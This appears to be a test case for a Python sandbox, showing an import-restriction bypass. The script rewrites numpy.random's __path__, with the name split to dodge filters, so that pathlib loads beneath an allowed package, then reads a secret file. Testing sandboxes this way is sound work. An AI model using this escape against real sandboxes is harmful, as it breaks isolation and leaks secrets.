# attack: sets where a package looks for its submodules; below numpy.random every import is allowed, so the standard library is moved there
# family: import
import numpy.random
setattr(numpy.random, "__pa" + "th__", ["/usr/lib/python3.11"])
import numpy.random.pathlib as found
print("REACHED", found)
print(found.Path("$SECRET_FILE").read_text())
